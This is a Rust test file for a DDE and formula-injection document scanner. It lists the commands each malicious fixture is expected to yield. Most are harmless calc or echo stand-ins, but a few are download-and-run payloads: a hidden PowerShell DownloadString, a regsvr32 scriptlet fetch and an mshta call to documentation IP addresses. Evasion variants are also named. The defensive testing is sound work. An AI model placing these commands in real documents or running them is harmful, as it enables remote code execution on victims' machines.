//! Every positive fixture yields exactly its commands; every negative fixture yields none.

use crate::util::{scan, testdata};

/// (fixture, rule id, commands) for each positive fixture.
const POSITIVES: &[(&str, &str, &[&str])] = &[
    (
        "word-ddeauto-runs.docx",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/k calc.exe""#],
    ),
    (
        "word-dde-fldsimple.docx",
        "ddesweep.document.dde_field",
        &[r#"c:\windows\system32\cmd.exe "/c notepad.exe""#],
    ),
    (
        "word-every-part.docm",
        "ddesweep.document.ddeauto_field",
        &[
            r#"cmd.exe "/c echo body""#,
            r#"cmd.exe "/c echo comment""#,
            r#"cmd.exe "/c echo endnote""#,
            r#"cmd.exe "/c echo footer""#,
            r#"cmd.exe "/c echo footnote""#,
            r#"cmd.exe "/c echo header""#,
        ],
    ),
    (
        "word-quote-nested.docx",
        "ddesweep.document.ddeauto_field",
        &[r#"C:\Windows\System32\cmd.exe "/c calc.exe""#],
    ),
    (
        "word-lowercase.dotm",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c whoami""#],
    ),
    (
        "word-legacy.doc",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c notepad.exe""#],
    ),
    (
        "word-legacy-padded.dot",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c whoami""#],
    ),
    (
        "word-legacy-orphan.doc",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c calc.exe""#],
    ),
    (
        "excel-ddelink.xlsx",
        "ddesweep.document.dde_link",
        &["cmd /c calc.exe"],
    ),
    (
        "excel-formula.xlsm",
        "ddesweep.document.dde_formula",
        &[
            "cmd /c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')",
        ],
    ),
    (
        "rtf-ddeauto.rtf",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/k calc.exe""#],
    ),
    (
        "rtf-escaped.rtf",
        "ddesweep.document.ddeauto_field",
        &[
            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
            r#"c:\windows\system32\cmd.exe "/c mspaint.exe""#,
        ],
    ),
    (
        "csv-cmd.csv",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "csv-utf16.csv",
        "ddesweep.document.dde_formula",
        &["cmd /c notepad.exe"],
    ),
    (
        "csv-bom.tsv",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "csv-libreoffice.csv",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "txt-formula.txt",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "evasion-one-run.docx",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c calc.exe""#],
    ),
    (
        "evasion-wrappers.docx",
        "ddesweep.document.ddeauto_field",
        &[
            r#"cmd.exe "/c echo customXml""#,
            r#"cmd.exe "/c echo hyperlink""#,
            r#"cmd.exe "/c echo ins""#,
            r#"cmd.exe "/c echo sdt""#,
            r#"cmd.exe "/c echo smartTag""#,
            r#"cmd.exe "/c echo spanning""#,
        ],
    ),
    (
        "evasion-alternate-content.docx",
        "ddesweep.document.ddeauto_field",
        &[
            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
            r#"cmd.exe "/c echo fallback""#,
        ],
    ),
    (
        "evasion-strict.docx",
        "ddesweep.document.ddeauto_field",
        &[r#"C:\Windows\System32\cmd.exe "/c powershell -nop -c calc.exe""#],
    ),
    (
        "evasion-unterminated.docx",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c echo unterminated""#],
    ),
    (
        "evasion-quote-split.docx",
        "ddesweep.document.ddeauto_field",
        &[r#"cmd.exe "/c calc.exe""#],
    ),
    (
        "evasion-mixed-case.docx",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c echo mixed""#],
    ),
    (
        "evasion-fullwidth.csv",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "evasion-leading-quotes.csv",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "evasion-concat.csv",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "evasion-msexcel.csv",
        "ddesweep.document.dde_formula",
        &[r"\Windows\System32\regsvr32 /s /n /u /i:http://198.51.100.4/a.sct scrobj.dll"],
    ),
    (
        "word2003.xml",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/k calc.exe""#],
    ),
    (
        "word2003-equation.xml",
        "ddesweep.document.equation_editor",
        &[""],
    ),
    // Equation Editor findings carry no command: the RTF's own record and its object's storage.
    (
        "rtf-equation.rtf",
        "ddesweep.document.equation_editor",
        &["", ""],
    ),
    (
        "word-equation.docx",
        "ddesweep.document.equation_editor",
        &[""],
    ),
    (
        "word-package.docx",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "flat-opc.xml",
        "ddesweep.document.ddeauto_field",
        &[
            r#"c:\windows\system32\cmd.exe "/c echo embedded""#,
            r#"c:\windows\system32\cmd.exe "/c echo flat""#,
        ],
    ),
    (
        "excel2003.xml",
        "ddesweep.document.dde_formula",
        &["cmd /c calc.exe"],
    ),
    (
        "sylk-cmd.slk",
        "ddesweep.document.dde_formula",
        &["CMD /C calc.exe"],
    ),
    (
        "webquery.iqy",
        "ddesweep.document.web_query",
        &["http://198.51.100.23/dde/2.dat"],
    ),
    (
        "slides.pptx",
        "ddesweep.document.ddeauto_field",
        &[r#"c:\windows\system32\cmd.exe "/c echo slides""#],
    ),
    (
        "slides-ole-link.pptx",
        "ddesweep.document.ole_link",
        &[r"file:///\\198.51.100.23\public\Q3-figures.xlsx"],
    ),
    (
        "slides-equation.ppsx",
        "ddesweep.document.equation_editor",
        &[""],
    ),
    (
        "excel-legacy.xls",
        "ddesweep.document.dde_link",
        &["cmd /c calc.exe"],
    ),
    (
        "excel-binary.xlsb",
        "ddesweep.document.dde_link",
        &["cmd /c notepad.exe"],
    ),
    (
        "excel-legacy-velvet.xls",
        "ddesweep.document.dde_link",
        &["cmd /c mshta http://198.51.100.23/v.hta"],
    ),
];

/// Encrypted positives, each with two findings (the default password and the DDE link inside):
/// their details are checked in `encrypted.rs`.
const ENCRYPTED_POSITIVES: &[&str] = &["excel-agile-velvet.xlsx", "excel-standard-velvet.xlsx"];

/// (fixture, [(rule id, command)]) for positive fixtures whose findings follow different rules.
const MIXED: &[(&str, &[(&str, &str)])] = &[
    (
        "outlook-dde.msg",
        &[
            ("ddesweep.document.dde_formula", "cmd /c notepad.exe"),
            (
                "ddesweep.document.ddeauto_field",
                r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
            ),
        ],
    ),
    // A workbook in the ObjectPool of a .doc is scanned as a document of its own.
    (
        "word-embedded-sheet.doc",
        &[
            ("ddesweep.document.dde_link", "cmd /c calc.exe"),
            (
                "ddesweep.document.ddeauto_field",
                r#"c:\windows\system32\cmd.exe "/c notepad.exe""#,
            ),
        ],
    ),
];

#[test]
fn storages_holding_documents_are_scanned_as_documents() {
    let run = scan(
        &[&testdata("documents/positive/word-embedded-sheet.doc")],
        &[],
    );
    let parts: Vec<(&str, &str)> = run
        .rows
        .iter()
        .filter(|r| r["severity"] != "info")
        .map(|r| (r["part"].as_str().unwrap(), r["command"].as_str().unwrap()))
        .collect();
    assert!(
        parts.contains(&("ObjectPool/_1700000001 > Workbook", "cmd /c calc.exe")),
        "{parts:?}"
    );
    assert!(
        parts.contains(&(
            "WordDocument",
            r#"c:\windows\system32\cmd.exe "/c notepad.exe""#
        )),
        "{parts:?}"
    );
    assert_eq!(parts.len(), 2);
}

/// Findings without a command that positive fixtures also yield: (fixture, rule).
const NOTICES: &[(&str, &str)] = &[(
    "excel-legacy-velvet.xls",
    "ddesweep.document.default_password",
)];

#[test]
fn positive_fixtures_yield_their_exact_commands() {
    let folder = testdata("documents/positive");
    let run = scan(&[&folder], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    for (name, rule, commands) in POSITIVES {
        let notices = NOTICES.iter().filter(|(n, _)| n == name).count();
        let found: Vec<(String, String, String)> = run
            .findings()
            .into_iter()
            .filter(|(path, rule, _)| path == name && !NOTICES.contains(&(name, rule.as_str())))
            .collect();
        let mut got: Vec<&str> = found.iter().map(|(_, _, c)| c.as_str()).collect();
        got.sort_unstable();
        assert_eq!(got, *commands, "commands of {name}");
        for (_, rule_id, _) in &found {
            assert_eq!(rule_id, rule, "rule of {name}");
        }
        let artifact = run.artifact(name);
        assert_eq!(artifact["status"], "analyzed", "{name}: {artifact}");
        assert_eq!(artifact["findings"], commands.len() + notices, "{name}");
    }
    for name in ENCRYPTED_POSITIVES {
        assert_eq!(run.commands_in(name), ["", "cmd /c calc.exe"], "{name}");
    }
    for (name, expected) in MIXED {
        let mut got: Vec<(String, String)> = run
            .findings()
            .into_iter()
            .filter(|(path, _, _)| path == name)
            .map(|(_, rule, command)| (rule, command))
            .collect();
        got.sort_unstable();
        let expected: Vec<(String, String)> = expected
            .iter()
            .map(|(rule, command)| ((*rule).to_owned(), (*command).to_owned()))
            .collect();
        assert_eq!(got, expected, "findings of {name}");
        assert_eq!(run.artifact(name)["status"], "analyzed", "{name}");
    }
    let fixtures = POSITIVES.len() + ENCRYPTED_POSITIVES.len() + MIXED.len();
    assert_eq!(run.manifest["totals"]["seen"], fixtures);
    assert_eq!(run.manifest["totals"]["analyzed"], fixtures);
    let expected: usize = POSITIVES.iter().map(|(_, _, c)| c.len()).sum::<usize>()
        + MIXED.iter().map(|(_, f)| f.len()).sum::<usize>()
        + 2 * ENCRYPTED_POSITIVES.len()
        + NOTICES.len();
    assert_eq!(run.manifest["totals"]["findings"], expected);
}

#[test]
fn every_part_fixture_names_its_parts() {
    let run = scan(&[&testdata("documents/positive/word-every-part.docm")], &[]);
    let mut parts: Vec<&str> = run
        .rows
        .iter()
        .filter(|r| r["severity"] != "info")
        .map(|r| r["part"].as_str().unwrap_or_default())
        .collect();
    parts.sort_unstable();
    assert_eq!(
        parts,
        [
            "word/comments.xml",
            "word/document.xml",
            "word/endnotes.xml",
            "word/footer1.xml",
            "word/footnotes.xml",
            "word/header1.xml"
        ]
    );
}

#[test]
fn finding_rows_carry_the_details() {
    let run = scan(&[&testdata("documents/positive/excel-ddelink.xlsx")], &[]);
    let rows: Vec<_> = run
        .rows
        .iter()
        .filter(|r| r["severity"] != "info")
        .collect();
    assert_eq!(rows.len(), 1);
    let row = rows[0];
    assert_eq!(row["data_type"], "ddesweep:document:dde_link");
    assert_eq!(row["dde_service"], "cmd");
    assert_eq!(row["dde_topic"], "/c calc.exe");
    assert_eq!(row["dde_item"], "_xlbgnm.A1");
    assert_eq!(row["part"], "xl/externalLinks/externalLink1.xml");
    assert_eq!(row["severity"], "critical");
    assert_eq!(row["confidence"], "high");
    assert_eq!(row["markers"], "cmd /");
    assert_eq!(row["tag"], serde_json::json!(["T1559.002", "critical"]));
    let sha = run.artifact("excel-ddelink.xlsx")["sha256"].clone();
    assert_eq!(row["sha256"], sha);
    assert_eq!(sha.as_str().map(str::len), Some(64));
    let message = row["message"].as_str().unwrap();
    assert_eq!(
        message,
        "DDE link in excel-ddelink.xlsx (xl/externalLinks/externalLink1.xml) runs: cmd /c calc.exe"
    );
}

#[test]
fn negative_fixtures_yield_no_findings() {
    let run = scan(&[&testdata("documents/negative")], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.findings(), Vec::<(String, String, String)>::new());
    assert_eq!(run.rows.len(), 0, "no DDE document, no context rows");
    assert_eq!(run.manifest["totals"]["seen"], 14);
    assert_eq!(run.manifest["totals"]["analyzed"], 14);
    assert_eq!(run.manifest["totals"]["findings"], 0);
}
